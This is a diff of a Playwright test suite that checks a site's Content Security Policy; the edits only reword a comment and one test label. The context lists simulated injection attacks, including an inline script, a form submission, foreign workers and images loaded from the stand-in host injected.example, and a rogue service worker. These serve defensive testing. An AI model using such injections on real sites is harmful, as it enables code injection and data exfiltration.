@@ -3,7 +3,7 @@ import { expect, test } from '@playwright/test';
 /** The only address at which a page may violate the policy: see `failOnViolations.ts`. */
 const address = '/nowhere?injected';
 
-/** Ways in which injected text could run code in the page, or send its data elsewhere. */
+/** Ways in which injected text could run code in the page, or send the page's data to another site. */
 const attacks: Readonly<Record<string, () => unknown>> = {
   'an inline script': () => {
     const script = document.createElement('script');
@@ -38,7 +38,7 @@ const attacks: Readonly<Record<string, () => unknown>> = {
     setTimeout(() => form.submit());
   },
   'a foreign worker': () => new Worker('https://injected.example/worker.js'),
-  'a worker of our own site that is none of the build': () => navigator.serviceWorker.register('/nowhere.js'),
+  'a worker from our own site that is not part of the build': () => navigator.serviceWorker.register('/nowhere.js'),
   'a foreign picture': () => {
     const image = document.createElement('img');
     image.src = 'https://injected.example/crest.png';
